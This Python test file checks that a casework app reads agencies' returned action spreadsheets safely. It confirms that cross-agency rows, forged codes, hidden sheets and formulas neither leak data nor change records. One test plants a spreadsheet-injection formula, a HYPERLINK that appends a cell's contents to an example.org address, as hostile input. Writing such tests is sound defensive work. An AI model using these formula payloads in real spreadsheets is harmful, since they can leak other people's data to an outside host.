"""A sheet sent back with what its agency was never sent: nothing else is changed, or even shown."""

from dataclasses import dataclass
from datetime import date
from pathlib import Path
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook

from psg_desktop.casework.caseload import actions, cases
from psg_desktop.casework.meeting import replies
from psg_desktop.casework.meeting.replies import Reply
from psg_desktop.casework.office import Office
from psg_desktop.domain.action_replies import Verdict
from psg_desktop.domain.action_sheets import SheetColumn, action_mark, row_code
from psg_desktop.domain.actions import Action
from psg_desktop.domain.refusals import Refused
from psg_desktop.faults import Unreadable
from psg_desktop.store.shelves import ALL
from psg_desktop.words import replies as words
from tests.builders import a_closure
from tests.replying import FIRST, agreed, fill, opened, owner, page_of, sheet_of

DUE = date(2026, 12, 4)
SECRET = "Zibberwick must be told"


@dataclass
class Desk:
    """An office that sent a sheet with two actions to one agency, and one to another."""

    office: Office
    own: list[Action]
    other: Action
    sheet: Path
    others_sheet: Path

    def held(self) -> list[object]:
        with self.office.reading() as unit:
            return [one for shelf in ALL for one in unit.shelf(shelf).all()]

    def read(self) -> Reply:
        return replies.read(self.office, self.sheet)


@pytest.fixture
def sent(desk: Office, tmp_path: Path) -> Desk:
    case = opened(desk)
    own = [agreed(desk, case, owner(desk), f"Thing {number}", DUE) for number in range(2)]
    other = agreed(desk, opened(desk, 701), owner(desk, 1), SECRET, DUE)
    sheet, others = sheet_of(desk, owner(desk), tmp_path), sheet_of(desk, owner(desk, 1), tmp_path)
    return Desk(desk, own, other, sheet, others)


def told(reply: Reply) -> str:
    """Give every word that the preview shows."""
    return "\n".join(
        [words.summary(reply.lines), reply.agency]
        + [
            "\n".join(
                (
                    words.title(line), words.spoken(line), words.reason(line),
                    *(part for pair in words.changes(line) for part in pair),
                    line.asked.action.what if line.asked else "",
                )
            )
            for line in reply.lines
        ]
    )  # fmt: skip


def test_that_a_row_of_another_agency_stops_the_whole_sheet(sent: Desk) -> None:
    before = sent.held()
    fill(sent.sheet, FIRST, PROGRESS="Done.", DONE_ON=sent.office.today())
    fill(sent.sheet, FIRST + 1, CODE=row_code(sent.other), PROGRESS="Done.")
    with pytest.raises(Unreadable, match="different agencies") as refused:
        sent.read()
    assert SECRET not in str(refused.value)
    assert sent.held() == before


@pytest.mark.parametrize("ending", ["", "-00000000", "-", "-01234567-89"])
def test_that_a_code_made_up_for_an_action_of_another_agency_is_not_known(
    sent: Desk, ending: str
) -> None:
    before = sent.held()
    code = f"{action_mark(str(sent.other.id))}{ending}"
    fill(sent.sheet, FIRST, CODE=code, PROGRESS="Done.", NEW_DUE=date(2027, 1, 8))
    reply = sent.read()
    line = reply.lines[0]
    assert (line.verdict, line.asked) == (Verdict.UNKNOWN, None)
    assert SECRET not in told(reply)
    assert "701" not in told(reply)
    with pytest.raises(Refused):
        replies.take(sent.office, [line])
    assert sent.held() == before


@pytest.mark.parametrize("sent_since", [False, True])
def test_that_an_action_that_was_never_sent_is_not_known(sent: Desk, sent_since: bool) -> None:
    case = opened(sent.office, 702)
    unsent = agreed(sent.office, case, owner(sent.office), SECRET, DUE)
    if sent_since:
        actions.cancel(sent.office, unsent.id, sent.office.today(), "Not needed.")
        unsent = actions.get(sent.office, unsent.id)
    fill(sent.sheet, FIRST, CODE=row_code(unsent), PROGRESS="Done.")
    reply = sent.read()
    assert reply.lines[0].verdict is Verdict.UNKNOWN
    assert SECRET not in told(reply)


def test_that_added_rows_change_nothing_and_are_shown_as_they_were_written(sent: Desk) -> None:
    fill(sent.sheet, FIRST + 2, CASE="PSG-2026-701", PROGRESS="Closed it ourselves.")
    fill(sent.sheet, FIRST + 3, CODE="0123456789abcdef-01234567", PROGRESS="And this.")
    fill(sent.sheet, FIRST + 4, CASE="PSG-2026-701", WHAT=SECRET)
    reply = sent.read()
    added = [line for line in reply.lines if line.answer.row >= FIRST + 2]
    assert [line.verdict for line in added] == [Verdict.UNKNOWN] * 2
    assert words.changes(added[0]) == (("Written there", "Closed it ourselves."),)
    assert not reply.takeable


def test_that_one_action_answered_on_many_rows_is_taken_once(sent: Desk) -> None:
    code = row_code(sent.own[0])
    for number in range(20):
        fill(sent.sheet, FIRST + number, CODE=code.upper(), PROGRESS=f"Answer {number}.")
    reply = sent.read()
    assert reply.takeable == 1
    replies.take(sent.office, [line for line in reply.lines if line.takeable])
    with sent.office.reading() as unit:
        assert len(unit.notes.where(case=sent.own[0].case)) == 1
    with pytest.raises(Refused):
        replies.take(sent.office, [reply.lines[0], reply.lines[0]])


def test_that_what_was_read_before_a_case_was_closed_is_not_taken_after(sent: Desk) -> None:
    fill(sent.sheet, FIRST, PROGRESS="Done.", DONE_ON=sent.office.today())
    fill(sent.sheet, FIRST + 1, PROGRESS="Half way.", NEW_DUE=date(2027, 1, 8))
    lines = [line for line in sent.read().lines if line.takeable]
    cases.close(sent.office, sent.own[0].case, a_closure(on=sent.office.today()))
    before = sent.held()
    assert [line.takeable for line in sent.read().lines] == [True, False]  # done is done
    for line in lines:
        with pytest.raises(Refused):
            replies.take(sent.office, [line])
    assert sent.held() == before


def test_that_a_hidden_sheet_is_not_read(sent: Desk) -> None:
    fill(sent.sheet, FIRST, PROGRESS="What the agency saw.")
    book = load_workbook(sent.sheet)
    shown = book["Actions"]
    hidden = book.create_sheet("Older", 0)
    for row in shown.iter_rows(values_only=True):
        hidden.append(["Planted." if cell == "What the agency saw." else cell for cell in row])
    hidden.sheet_state = "veryHidden"
    book.active = 1
    book.save(sent.sheet)
    assert [line.answer.progress for line in sent.read().lines] == ["What the agency saw.", ""]
    book["Actions"].sheet_state = "hidden"
    book.create_sheet("In sight")
    book.save(sent.sheet)
    with pytest.raises(Unreadable, match="not an action sheet"):
        sent.read()


def test_that_a_formula_is_never_worked_out(sent: Desk) -> None:
    before = sent.held()
    fill(
        sent.sheet, FIRST, PROGRESS='=HYPERLINK("https://example.org/"&A6,"Done")',
        DONE_ON="=TODAY()", CODE="=I7",
    )  # fmt: skip
    fill(sent.sheet, FIRST + 1, PROGRESS="=1+1", NEW_DUE="=NOW()+30")
    reply = sent.read()
    assert [line.verdict for line in reply.lines] == [Verdict.EMPTY]
    assert sent.held() == before


def test_that_a_sheet_of_another_vault_changes_nothing(sent: Desk) -> None:
    with ZipFile(sent.others_sheet) as book:
        assert SECRET in book.read("xl/sharedStrings.xml").decode()
    codes = [cell.value for cell in page_of(sent.sheet)["I"][FIRST - 1 :]]
    for number, code in enumerate(codes):
        strange = str(code).translate(str.maketrans("0123456789abcdef", "fedcba9876543210"))
        fill(sent.sheet, FIRST + number, CODE=strange, PROGRESS="Done.")
    reply = sent.read()
    assert {line.verdict for line in reply.lines} == {Verdict.UNKNOWN}
    assert reply.agency == ""


def test_that_headings_said_twice_and_codes_moved_down_answer_for_what_they_name(
    sent: Desk,
) -> None:
    first, second = (row_code(one) for one in sent.own)
    place = [one.value for one in SheetColumn].index(SheetColumn.CODE.value) + 1
    book = load_workbook(sent.sheet)
    page = book["Actions"]
    page.cell(FIRST - 1, place + 1).value = SheetColumn.PROGRESS.value
    page.cell(FIRST, place).value, page.cell(FIRST + 1, place).value = second, first
    page.cell(FIRST, place + 1).value = "Of the second."
    book.save(sent.sheet)
    line = sent.read().lines[0]
    assert line.asked is not None
    assert line.asked.action == sent.own[1]


def test_that_the_preview_says_whose_rows_these_are(sent: Desk) -> None:
    with sent.office.reading() as unit:
        names = [unit.agencies.get(owner(sent.office, place)).label for place in range(2)]
    assert sent.read().agency == names[0]
    assert replies.read(sent.office, sent.others_sheet).agency == names[1]


@pytest.mark.parametrize(
    ("cell", "said"), [(12345.67, "12345.67"), (0.1 + 0.2, "0.3"), (1234567.5, "1234567.5")]
)
def test_that_an_amount_as_the_answer_keeps_its_pence(sent: Desk, cell: float, said: str) -> None:
    fill(sent.sheet, FIRST, PROGRESS=cell)
    assert sent.read().lines[0].answer.progress == said
